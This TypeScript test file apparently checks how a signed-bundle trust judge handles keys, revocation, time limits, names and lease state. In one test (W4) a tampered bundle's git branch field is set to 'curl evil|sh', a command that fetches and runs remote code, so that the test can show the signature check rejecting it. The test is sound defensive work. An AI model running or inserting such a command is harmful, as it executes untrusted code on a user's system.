import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { publicOf, sharedSecret, signed, taken } from '../../../test/support/signed-bundles.ts';
import { createKey, type SigningKey } from '../../../test/support/ssh.ts';
import { repository } from '../../../test/support/world.ts';
import { readAllowedSigners } from '../../lib/allowed-signers.ts';
import type { JsonObject } from '../../lib/canonical-json.ts';
import { sealBundle } from '../bundle/bundle.ts';
import { inspectBundle } from '../bundle/inspect.ts';
import { sampleBundle2, sampleBundle3 } from '../bundle/samples.ts';
import { verifySignature } from '../bundle/signature.ts';
import { judgeTrust, type TrustVerdict } from './judge.ts';
import { defaultRules, rulesOf, withFields, type TrustFields, type TrustPolicy } from './trust.ts';

/** An hour after the sample bundles were exported. */
const now = '2026-03-12T11:00:00.000Z';
const later = (minutes: number): string => new Date(Date.parse(now) + minutes * 60_000).toISOString();

const secret = sharedSecret;
const keys = { old: createKey('ed25519'), new: createKey('ed25519') };
const print = (key: SigningKey): string => publicOf(key).fingerprint;

const saying = (value: JsonObject, changes: JsonObject): JsonObject => ({
  ...value,
  signature: { ...(value['signature'] as JsonObject), ...changes },
});

/** What becomes of a bundle: the verdict, with the codes of its reasons. */
const judged = (
  value: JsonObject,
  policy: TrustPolicy = {},
  { at = now, profile = undefined as string | undefined, signers = undefined as string | undefined, by = secret } = {},
): string => {
  const bundle = taken(value);
  const rules = rulesOf(policy, profile);
  assert.ok(rules !== undefined);
  const keyring = signers === undefined ? undefined : readAllowedSigners(signers, () => 0);
  assert.ok(keyring?.ok !== false);
  const fingerprints = rules.allowed.get('allowed_public_key_fingerprints');
  const means = { secret: by, fingerprints, signers: keyring?.value };
  const signature = bundle.signature === undefined ? undefined : verifySignature(bundle, means, at);
  return told(judgeTrust(inspectBundle(bundle, 'b.json', at), signature, rules, at));
};

const told = ({ result, reasons }: TrustVerdict): string =>
  reasons.length === 0 ? result : `${result}: ${[...new Set(reasons.map(({ code }) => code))].join(', ')}`;

const pinning = (...pinned: readonly SigningKey[]): TrustFields => ({
  require_signature: true,
  allowed_public_key_fingerprints: pinned.map(print),
});

/** What the guide says becomes of bundles in time, row by row. */
const rows: Readonly<Record<string, () => string>> = {
  'The new key is pinned beside the old one, and the old one has signed': () =>
    judged(signed(sampleBundle3(), { with: keys.old }), pinning(keys.old, keys.new)),
  'Only the new key is pinned, and the old one has signed': () =>
    judged(signed(sampleBundle3(), { with: keys.old }), pinning(keys.new)),
  'The shared secret was changed since it was signed': () =>
    judged(signed(sampleBundle3(), { by: 'the secret of before' })),
  'The file of signers says that the key was valid until it was signed, and it is not any more': () =>
    judged(
      signed(sampleBundle3(), { with: keys.old }),
      { allowed_signers_file: 'signers' },
      {
        signers: `ana valid-before="20260312104500Z" ${keys.old.line}`,
      },
    ),
  'The fingerprint of the key was revoked while the bundle was on its way': () =>
    judged(signed(sampleBundle3(), { with: keys.old }), {
      ...pinning(keys.old),
      revoked_public_key_fingerprints: [print(keys.old)],
    }),
  'The id of the key was revoked, and the bundle names it': () =>
    judged(signed(sampleBundle3()), { revoked_key_ids: ['k1'] }),
  'The id of the key was revoked, and another one was written into the bundle': () =>
    judged(saying(signed(sampleBundle3()), { key_id: 'k2' }), { revoked_key_ids: ['k1'] }),
  'The same in a bundle of version 2, whose signature does not cover the id': () =>
    judged(saying(signed(sampleBundle2()), { key_id: 'k2' }), { revoked_key_ids: ['k1'] }),
  'The root of the policy revokes it, and the profile `{}` counts': () =>
    judged(
      signed(sampleBundle3()),
      { require_signature: true, revoked_key_ids: ['k1'], profiles: { any: {} } },
      { profile: 'any' },
    ),
  'It was exported up to two minutes ahead of this clock': () => judged(sampleBundle3(), {}, { at: later(-62) }),
  'It was exported further ahead of this clock, whatever age is accepted': () =>
    judged(sampleBundle3(), { max_age_hours: 1 }, { at: later(-63) }),
  'It was signed further ahead of this clock': () =>
    judged(signed(sampleBundle3(), { signedAt: '2026-03-12T11:03:00Z' })),
  'It is exactly as old as is accepted': () => judged(sampleBundle3(), { max_age_hours: 1 }),
  'It is older than is accepted': () => judged(sampleBundle3(), { max_age_hours: 1 }, { at: later(1) }),
  'The same bundle comes again, within the age that is accepted': () => {
    const bundle = signed(sampleBundle3(), { with: keys.old });
    const policy = { ...pinning(keys.old), max_age_hours: 24 };
    assert.equal(judged(bundle, policy), 'trusted');
    return judged(bundle, policy, { at: later(60) });
  },
  'It comes again later than that': () =>
    judged(
      signed(sampleBundle3(), { with: keys.old }),
      { ...pinning(keys.old), max_age_hours: 24 },
      { at: later(1440) },
    ),
  'The signature of one bundle stands on another one': () =>
    judged({
      ...sampleBundle3({ exported_at: '2026-03-12T10:45:00.000Z' }),
      signature: signed(sampleBundle3())['signature'] ?? null,
    }),
};

test('what becomes of a bundle in time is what the table of the guide says', async (context) => {
  const guide = readFileSync(join(repository, 'docs/guides/policies.md'), 'utf8');
  const [, table = ''] = /\n\| what happened[^\n]*\n\| -[^\n]*\n((?:\|[^\n]*\n)+)/.exec(guide) ?? [];
  const verdicts = new Map(
    table.split('\n').flatMap((line) => {
      const [, row, verdict] = /^\| (.*?) +\| (.*?) +\|$/.exec(line) ?? [];
      return row === undefined || verdict === undefined ? [] : [[row, verdict.replaceAll('`', '')]];
    }),
  );
  assert.deepEqual([...verdicts.keys()], Object.keys(rows));
  for (const [row, verdict] of Object.entries(rows)) {
    await context.test(row, () => assert.equal(verdict(), verdicts.get(row)));
  }
});

test('W3: a key that comes with the bundle proves nothing, whoever it says it is, and whatever names are accepted', () => {
  const stranger = signed(sampleBundle3(), { with: createKey('ed25519') });
  assert.equal(judged(stranger), 'untrusted: key');
  assert.equal(judged(stranger, { allowed_signers: ['ana'], allowed_key_ids: ['k1'] }), 'untrusted: key');
  assert.equal(judged(stranger, pinning(keys.old)), 'untrusted: fingerprint');
  const signers = `ana ${keys.old.line}`;
  assert.equal(judged(stranger, { allowed_signers_file: 'signers' }, { signers }), 'untrusted: key');
  const own = signed(sampleBundle3(), { with: keys.old });
  assert.equal(judged(own, { allowed_signers_file: 'signers', require_signature: true }, { signers }), 'trusted');
  assert.equal(judged(own, { ...pinning(keys.old), allowed_signers: ['ana'] }), 'trusted');
});

test('a name is accepted as it is written, and not as something that looks like it', () => {
  const policy = { allowed_key_ids: ['k1'], allowed_next_owner: ['ben'] };
  assert.equal(judged(signed(sampleBundle3()), policy), 'trusted');
  for (const keyId of ['k1 ', 'K1', 'k1\u200b', '\u00a0k1'])
    assert.equal(judged(signed(sampleBundle3(), { keyId }), policy), 'untrusted: key-id', JSON.stringify(keyId));
});

test('W4: whoever changes a bundle can make its checksums anew, and not its signature', () => {
  for (const [version, sample] of [
    [2, sampleBundle2],
    [3, sampleBundle3],
  ] as const) {
    const { signature = null, ...whole } = signed(sample());
    const { git = null } = whole;
    const harmful = sealBundle(version, { ...whole, git: { ...(git as JsonObject), branch: 'curl evil|sh' } });
    assert.equal(judged(harmful), 'trusted', 'nothing is required here');
    assert.equal(judged(harmful, { require_signature: true }), 'untrusted: unsigned');
    assert.equal(judged({ ...harmful, signature }), 'untrusted: signature');
  }
});

test('W6: a signature that is there has to hold, also where none is required', () => {
  const sound = signed(sampleBundle3());
  assert.equal(judged(sound), 'trusted');
  assert.equal(judged(saying(sound, { value: '0'.repeat(64) })), 'untrusted: signature');
  assert.equal(judged(sound, {}, { by: 'another secret' }), 'untrusted: signature');
  const { result, reasons } = judgeTrust(
    inspectBundle(taken(sound), 'b.json', now),
    verifySignature(taken(sound), {}, now),
    defaultRules,
    now,
  );
  assert.deepEqual([result, reasons.map(({ code }) => code)], ['untrusted', ['secret']]);
  assert.equal(judged(sampleBundle3(), { require_signature: true }), 'untrusted: unsigned');
  assert.equal(judged(sampleBundle3(), { revoked_signers: ['ana'] }), 'trusted');
  for (const policy of [
    { allowed_signers: ['ana'] },
    { allowed_signers_file: 'signers' },
    { allowed_public_key_fingerprints: [print(keys.old)] },
  ])
    assert.equal(judged(sampleBundle3(), policy), 'untrusted: unsigned', 'such a list accepts nothing without a name');
});

test('N37: what the caller revokes comes to what the policy revokes, and what he accepts takes nothing of it away', () => {
  const policy = withFields(defaultRules, { revoked_key_ids: ['k1'] });
  const call = withFields(policy, { revoked_key_ids: ['other'], allowed_signers: ['ana'] });
  const bundle = taken(signed(sampleBundle3()));
  const verdict = judgeTrust(inspectBundle(bundle, 'b.json', now), verifySignature(bundle, { secret }, now), call, now);
  assert.equal(told(verdict), 'untrusted: revoked');
});

test('N39: a bundle from the future is not trusted, and neither is one whose time is none', () => {
  assert.equal(
    judged(sampleBundle3({ exported_at: '2199-01-01T00:00:00.000Z' }), { max_age_hours: 1 }),
    'untrusted: time',
  );
  for (const at of ['2026-03-12T11:00:00', 'yesterday', '2026-02-30T11:00:00Z'])
    assert.equal(judged(sampleBundle2({ exported_at: at })), 'untrusted: time', at);
});

test('the state of the work is accepted as the policy says, and every reason is told', () => {
  const lease = {
    version: 1,
    holder: 'ana',
    purpose: 'work',
    acquired_at: '2026-03-12T09:00:00Z',
    expires_at: '2026-03-12T12:00:00Z',
    handover: 'handovers/20260312_0915_handover.md',
    session_state: 'session-state/CURRENT.md',
  };
  const busy = sampleBundle3({
    lease: { payload: lease, inspection: { state: 'active' } },
    readiness: { verdict: 'not-ready', task: 'None', status: 'in-progress', next_owner: 'ben' },
  });
  assert.equal(judged(busy), 'untrusted: warnings, readiness, lease');
  const lax: TrustFields = { allow_inspection_warnings: true, allow_source_not_ready: true };
  assert.equal(judged(busy, lax), 'untrusted: lease');
  assert.equal(judged(busy, { ...lax, allow_active_lease: true }), 'trusted-with-warnings');
  const afterwards = { at: '2026-03-12T13:00:00.000Z' };
  assert.equal(judged(busy, { ...lax, allow_active_lease: true }, afterwards), 'untrusted: lease');
  assert.equal(judged(busy, { ...lax, allow_expired_lease: true }, afterwards), 'trusted-with-warnings');
  assert.equal(judged(sampleBundle3({ readiness: null })), 'untrusted: readiness');
  const { source } = sampleBundle3();
  const bare = {
    source: { ...(source as JsonObject), handover_name: null, session_state_name: null, docs_root: null },
    documents: null,
    texts: {},
    readiness: null,
  };
  assert.equal(judged(sampleBundle3(bare)), 'trusted', 'without documents there is nothing to be ready');
  assert.equal(judged(sampleBundle3(), { allowed_next_owner: ['ben'] }), 'trusted');
  assert.equal(
    judged(sampleBundle3(), { allowed_next_owner: ['zed'], allowed_updated_by: ['zed'] }),
    'untrusted: updated-by, next-owner',
  );
});
